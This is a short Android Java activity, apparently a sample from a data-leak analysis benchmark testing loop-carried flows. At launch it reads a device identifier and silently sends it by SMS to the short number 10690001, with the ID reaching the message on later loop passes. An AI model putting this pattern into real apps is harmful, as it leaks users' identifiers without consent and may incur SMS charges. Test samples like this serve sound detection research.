package cn.shanhai.loopcarried;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    String last = "";
    String id = Device.id(this);
    for (int i = 0; i < 3; i++) {
      SmsManager.getDefault().sendTextMessage("10690001", null, last, null, null);
      last = id;
    }
  }
}
